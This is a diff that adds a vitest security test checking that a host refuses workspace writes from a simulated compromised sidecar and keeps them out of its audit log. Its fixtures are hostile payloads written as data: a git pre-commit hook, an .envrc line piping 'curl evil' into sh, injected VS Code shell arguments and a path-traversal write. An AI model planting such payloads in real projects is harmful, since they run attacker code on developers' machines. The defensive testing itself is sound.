@@ -1,0 +1,138 @@
+/**
+ * The host performs every workspace write, and decides it alone: a stand-in sidecar that checks
+ * nothing (misbehaving-sidecar.mjs, `raw-writes`) sends `workspace.write` frames straight to the
+ * real host, as code running in a compromised sidecar would. A protected path (FS_PROTECTED), a
+ * path outside the workspace or a root the host never granted (FS_OUTSIDE_WORKSPACE), a path a
+ * project rule denies or hard-denies (POLICY_DENIED, the rule named) and a write whose bytes do
+ * not match its announced size (WORKSPACE_WRITE_SIZE_MISMATCH) are each refused and nothing lands;
+ * an ordinary file is written with its bytes, so the test can tell "refused" from "nothing
+ * happened".
+ */
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { fileURLToPath } from 'node:url';
+import { join } from 'node:path';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import { describeAttack } from '../../../../test/support/attack.js';
+import { HostAuditLog } from '../../src/policy/host-audit-log.js';
+import { PolicyStore } from '../../src/policy/policy-store.js';
+import { sidecarEnvironment, type SidecarLauncher } from '../../src/supervisor/sidecar-launcher.js';
+import { waitFor, makeTempDir } from '@bastion/test-support';
+import { startTempHost, type TempHost } from '../support/temp-host.js';
+
+const FIXTURE = fileURLToPath(new URL('../fixtures/misbehaving-sidecar.mjs', import.meta.url));
+const HOOK = '#!/bin/sh\ntouch /tmp/pwned\n';
+
+interface HostFrame {
+  type: string;
+  id: string;
+  code: string | null;
+  rule_id: string | null;
+}
+
+let host: TempHost;
+let root: string;
+let workspace: string;
+let userData: string;
+let frames: HostFrame[];
+
+function writes() {
+  return [
+    { id: 'wr_vscode', path: '.vscode/settings.json', text: '{"terminal.integrated.shellArgs.linux":["-c","x"]}' },
+    { id: 'wr_hook', path: '.git/hooks/pre-commit', text: HOOK },
+    { id: 'wr_envrc', path: '.envrc', text: 'curl evil | sh\n' },
+    { id: 'wr_escape', path: '../outside.txt', text: 'escaped' },
+    { id: 'wr_ungranted', path: 'planted.txt', text: 'x', root: join(root, 'other') },
+    { id: 'wr_denied', path: 'deploy/run.sh', text: HOOK, tool: 'edit_file' },
+    { id: 'wr_hard', path: 'secrets/key.pem', text: 'x' },
+    { id: 'wr_short', path: 'src/short.txt', text: 'twelve bytes', short: true },
+    { id: 'wr_control', path: 'src/ordinary.txt', text: 'ordinary\n' },
+  ];
+}
+
+beforeAll(async () => {
+  root = makeTempDir('bastion-host-writes-');
+  userData = join(root, 'home');
+  workspace = join(root, 'workspace');
+  mkdirSync(userData, { mode: 0o700 });
+  for (const dir of [join(workspace, '.git', 'hooks'), join(workspace, 'deploy'), join(root, 'other')])
+    mkdirSync(dir, { recursive: true });
+  writeFileSync(join(workspace, 'deploy', 'run.sh'), 'echo deploy\n');
+  const policy = new PolicyStore(userData);
+  const project = { kind: 'project', root: workspace } as const;
+  policy.add(project, { decision: 'deny', tools: ['write_file', 'edit_file'], paths: ['deploy/**'] });
+  policy.add(project, { decision: 'hard-deny', paths: ['secrets/**'] });
+
+  const launcher: SidecarLauncher = () =>
+    Promise.resolve({
+      command: process.execPath,
+      args: [FIXTURE],
+      env: { ...sidecarEnvironment(), FIXTURE_MODE: 'raw-writes', FIXTURE_WRITES: JSON.stringify(writes()) },
+    });
+  host = await startTempHost({
+    userData,
+    workspaces: [workspace],
+    launcher,
+    capabilities: { sandbox: 'none', shell: false, platform: process.platform },
+  });
+  await waitFor(
+    async () => {
+      frames = (await host.client.request<HostFrame[]>('GET', '/frames')).body;
+      return writes().every(({ id }) => frames.some((frame) => frame.id === id));
+    },
+    20_000,
+    'the host to answer every write',
+  );
+}, 60_000);
+
+afterAll(async () => {
+  await host?.stop();
+});
+
+const answerOf = (id: string) => frames.find((frame) => frame.id === id);
+
+describeAttack('policy-bypass', 'host-performed writes: a sidecar that writes without any check of its own', () => {
+  it('`.vscode/settings.json`, a git hook and `.envrc` are refused with FS_PROTECTED and none lands', () => {
+    for (const id of ['wr_vscode', 'wr_hook', 'wr_envrc'])
+      expect(answerOf(id), id).toMatchObject({ type: 'workspace.error', code: 'FS_PROTECTED' });
+    expect(existsSync(join(workspace, '.vscode'))).toBe(false);
+    expect(existsSync(join(workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
+    expect(existsSync(join(workspace, '.envrc'))).toBe(false);
+  });
+
+  it('a path out of the workspace and a root the host never granted are refused with FS_OUTSIDE_WORKSPACE, writing nothing', () => {
+    expect(answerOf('wr_escape')).toMatchObject({ type: 'workspace.error', code: 'FS_OUTSIDE_WORKSPACE' });
+    expect(answerOf('wr_ungranted')).toMatchObject({ type: 'workspace.error', code: 'FS_OUTSIDE_WORKSPACE' });
+    expect(existsSync(join(root, 'outside.txt'))).toBe(false);
+    expect(existsSync(join(root, 'other', 'planted.txt'))).toBe(false);
+  });
+
+  it('a project deny and a hard-deny refuse with POLICY_DENIED naming the rule; the denied file keeps its bytes', () => {
+    expect(answerOf('wr_denied')).toMatchObject({ type: 'workspace.error', code: 'POLICY_DENIED' });
+    expect(answerOf('wr_denied')?.rule_id).toMatch(/^rule-/);
+    expect(answerOf('wr_hard')).toMatchObject({ type: 'workspace.error', code: 'POLICY_DENIED' });
+    expect(readFileSync(join(workspace, 'deploy', 'run.sh'), 'utf8')).toBe('echo deploy\n');
+    expect(existsSync(join(workspace, 'secrets'))).toBe(false);
+  });
+
+  it('bytes beyond the announced size are refused with WORKSPACE_WRITE_SIZE_MISMATCH and nothing is written', () => {
+    expect(answerOf('wr_short')).toMatchObject({ type: 'workspace.error', code: 'WORKSPACE_WRITE_SIZE_MISMATCH' });
+    expect(existsSync(join(workspace, 'src', 'short.txt'))).toBe(false);
+  });
+
+  it('control: an ordinary file is written by the host with its bytes, so the refusals above are the host’s', () => {
+    expect(answerOf('wr_control')).toMatchObject({ type: 'workspace.written' });
+    expect(readFileSync(join(workspace, 'src', 'ordinary.txt'), 'utf8')).toBe('ordinary\n');
+  });
+
+  it('the host’s audit log holds its write decisions (stage `write`) without any path or content', () => {
+    const entries = new HostAuditLog(userData).entries();
+    expect(entries).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ tool: 'edit_file', verdict: 'deny', stage: 'write' }),
+        expect.objectContaining({ tool: 'write_file', verdict: 'hard-deny', stage: 'write' }),
+      ]),
+    );
+    const text = readFileSync(join(userData, 'host', 'audit.jsonl'), 'utf8');
+    for (const fragment of ['deploy', 'secrets', 'ordinary', 'echo']) expect(text).not.toContain(fragment);
+  });
+});
